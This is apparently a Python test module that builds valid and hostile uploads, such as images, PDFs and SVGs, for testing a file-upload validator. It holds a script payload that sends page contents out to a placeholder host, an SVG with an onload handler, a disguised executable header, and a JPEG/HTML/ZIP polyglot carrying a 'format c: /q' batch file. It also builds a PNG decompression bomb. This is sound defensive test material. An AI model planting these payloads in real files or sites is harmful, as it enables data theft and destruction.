"""Real hostile (and real valid) files, built in the test: no binary fixtures.

Each builder returns the bytes a resident (or an attacker) could send.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib

import pillow_heif
from PIL import Image
from pypdf import PdfWriter

SCRIPT = b"<script>fetch('/console/').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))</script>"
ZIP_MARKER = b"PK\x03\x04"


def jpeg(size=(64, 48), color=(200, 30, 30), **save) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, "JPEG", **save)
    return out.getvalue()


def png(size=(40, 30), mode="RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, (0, 90, 200, 128) if mode == "RGBA" else (0, 90, 200)).save(out, "PNG")
    return out.getvalue()


def webp() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (10, 160, 60)).save(out, "WEBP")
    return out.getvalue()


def heic() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (48, 32), (90, 90, 200)).save(out, "HEIF")
    return out.getvalue()


def pdf(pages: int = 1, *, password: str = "") -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=200, height=200)
    if password:
        writer.encrypt(user_password=password, algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


PDF_WITHOUT_PAGES = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
BROKEN_PDF = b"%PDF-1.7\n" + bytes(random.Random(7).randrange(256) for _ in range(2000))


def exe() -> bytes:
    """The start of a Windows program (DOS stub and PE header), as sent renamed `.jpg`."""
    stub = b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + struct.pack("<I", 0x80)
    stub += b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    return stub.ljust(0x80, b"\x00") + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 400


SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">'
    + SCRIPT
    + b'<rect width="100" height="100" fill="red"/></svg>\n'
)
HTML = b"<!DOCTYPE html><html><head><title>AKTA</title></head><body>" + SCRIPT + b"</body></html>\n"
TEXT = b"Ini akta kelahiran anak saya, mohon diproses. Terima kasih.\n"


def polyglot() -> bytes:
    """A JPEG that is also HTML (in a comment segment) and a ZIP (appended): all three at once."""
    picture = jpeg((64, 48))
    comment = b"<html><body>" + SCRIPT + b"</body></html>"
    with_comment = picture[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + picture[2:]
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("payload.html", b"<html>" + SCRIPT + b"</html>")
        zipped.writestr("run.bat", b"@echo off\r\nformat c: /q\r\n")
    return with_comment + archive.getvalue()


def png_bomb(width: int = 20000, height: int = 20000) -> bytes:
    """A valid 1-bit PNG of width×height pixels, a few dozen KB on disk (400 megapixels)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def truncated_jpeg() -> bytes:
    noise = random.Random(3).randbytes(160 * 120 * 3)
    out = io.BytesIO()
    Image.frombytes("RGB", (160, 120), noise).save(out, "JPEG", quality=95)
    data = out.getvalue()
    return data[: len(data) // 2]


def jpeg_with_gps_rotated() -> bytes:
    """A phone photo lying on its side (EXIF orientation 6) with the GPS position of the home."""
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: rotate 90° clockwise to view
    exif[0x010F] = "KameraHP"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "S", (6.0, 11.0, 42.0), "E", (106.0, 29.0, 13.0)
    return jpeg((80, 40), exif=exif.tobytes())


assert pillow_heif  # registered by loket.domain.files too; imported here for HEIF saving
pillow_heif.register_heif_opener()
